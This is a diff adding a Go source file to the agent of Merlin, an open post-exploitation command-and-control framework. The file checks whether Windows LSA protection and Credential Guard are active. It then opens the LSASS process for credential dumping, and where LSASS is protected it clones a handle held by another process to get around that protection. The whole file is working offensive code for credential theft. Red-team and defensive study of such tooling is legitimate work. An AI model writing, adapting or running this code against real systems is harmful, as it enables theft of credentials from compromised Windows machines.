@@ -0,0 +1,153 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"path/filepath"
+	"strings"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+
+	// Internal
+	merlinOS "github.com/Ne0nd0g/merlin-agent/os"
+)
+
+// protectionSigners are the signer levels of a PS_PROTECTION structure
+var protectionSigners = []string{"None", "Authenticode", "CodeGen", "Antimalware", "Lsa", "Windows", "WinTcb", "WinSystem", "App"}
+
+// lsaStatus is how the Local Security Authority is protected, which decides whether credentials can be read from
+// LSASS memory
+type lsaStatus struct {
+	PID int
+	// RunAsPPL is the configured LSA protection, 1 with a UEFI lock and 2 without one
+	RunAsPPL uint64
+	// Protection is the PS_PROTECTION of the running LSASS process
+	Protection      byte
+	ProtectionError error
+	// LsaCfgFlags is the configured Credential Guard, 1 with a UEFI lock and 2 without one
+	LsaCfgFlags uint64
+	// CredentialGuard is true when the isolated LSA process, LsaIso.exe, is running
+	CredentialGuard bool
+}
+
+// lsaProtection returns whether LSA protection (RunAsPPL) and Credential Guard are configured and running
+func lsaProtection() (status lsaStatus) {
+	if key, err := openKey(registry.LOCAL_MACHINE, `SYSTEM\CurrentControlSet\Control\Lsa`, registry.QUERY_VALUE); err == nil {
+		status.RunAsPPL, _, _ = key.GetIntegerValue("RunAsPPL")
+		status.LsaCfgFlags, _, _ = key.GetIntegerValue("LsaCfgFlags")
+		_ = key.Close()
+	}
+	if status.LsaCfgFlags == 0 {
+		for _, path := range []string{`SOFTWARE\Policies\Microsoft\Windows\DeviceGuard`, `SYSTEM\CurrentControlSet\Control\DeviceGuard\Scenarios\CredentialGuard`} {
+			if key, err := openKey(registry.LOCAL_MACHINE, path, registry.QUERY_VALUE); err == nil {
+				if flags, _, err := key.GetIntegerValue("LsaCfgFlags"); err == nil && flags != 0 {
+					status.LsaCfgFlags = flags
+				} else if enabled, _, err := key.GetIntegerValue("Enabled"); err == nil && enabled != 0 {
+					status.LsaCfgFlags = enabled
+				}
+				_ = key.Close()
+			}
+		}
+	}
+
+	processes, err := getProcesses()
+	if err != nil {
+		status.ProtectionError = err
+		return
+	}
+	for _, process := range processes {
+		switch strings.ToLower(filepath.Base(process.Executable())) {
+		case "lsass.exe":
+			status.PID = process.Pid()
+		case "lsaiso.exe":
+			status.CredentialGuard = true
+		}
+	}
+	if status.PID == 0 {
+		status.ProtectionError = fmt.Errorf("the lsass.exe process was not found")
+		return
+	}
+	// PROCESS_QUERY_LIMITED_INFORMATION is granted for protected processes
+	handle, err := windows.OpenProcess(windows.PROCESS_QUERY_LIMITED_INFORMATION, false, uint32(status.PID))
+	if err != nil {
+		status.ProtectionError = fmt.Errorf("there was an error opening lsass.exe: %s", err)
+		return
+	}
+	defer windows.CloseHandle(handle) // #nosec G104 the handle is only queried
+	err = windows.NtQueryInformationProcess(handle, windows.ProcessProtectionInformation, unsafe.Pointer(&status.Protection), 1, nil)
+	if err != nil {
+		status.ProtectionError = fmt.Errorf("there was an error querying the protection of lsass.exe: %s", err)
+	}
+	return
+}
+
+// Protected returns true if LSASS runs as a protected process
+func (s lsaStatus) Protected() bool {
+	return s.Protection&0x7 != 0
+}
+
+// protectionString returns the type and signer of a PS_PROTECTION, such as PsProtectedSignerLsa-Light
+func protectionString(protection byte) string {
+	kind := []string{"None", "Light", "Full"}[min(int(protection&0x7), 2)]
+	if kind == "None" {
+		return "not protected"
+	}
+	signer := "Unknown"
+	if int(protection>>4) < len(protectionSigners) {
+		signer = protectionSigners[protection>>4]
+	}
+	return fmt.Sprintf("PsProtectedSigner%s-%s", signer, kind)
+}
+
+// openCredentialProcess opens a process for the credential modules. Opening LSASS first checks how the LSA is
+// protected: when LSASS is a protected process, which not even SYSTEM with SeDebugPrivilege can open for reading,
+// a handle another process already holds to LSASS is cloned instead and, if there is none, the module is refused
+// with an explanation rather than failing with access denied. The returned note explains the technique used and
+// what the dump will be missing
+func openCredentialProcess(pid uint32, access uint32) (handle windows.Handle, note string, err error) {
+	process, _, err := getProcess("", pid)
+	if err != nil || !strings.EqualFold(process, "lsass.exe") {
+		handle, err = windows.OpenProcess(access, false, pid)
+		return
+	}
+
+	status := lsaProtection()
+	if status.CredentialGuard {
+		note = "Credential Guard is running, NTLM hashes and Kerberos tickets are isolated in LsaIso.exe and will not be in LSASS memory\n"
+	}
+	if !status.Protected() {
+		handle, err = windows.OpenProcess(access, false, pid)
+		return
+	}
+
+	handle, holder, err := merlinOS.CloneProcessHandle(pid, access)
+	if err != nil {
+		return 0, note, fmt.Errorf("LSASS is running as a protected process (%s) and can't be opened for reading without "+
+			"a kernel driver; no process the agent can open holds a usable handle to it to clone: %s", protectionString(status.Protection), err)
+	}
+	note += fmt.Sprintf("LSASS is running as a protected process (%s), cloned the handle held by %s\n", protectionString(status.Protection), holder)
+	return handle, note, nil
+}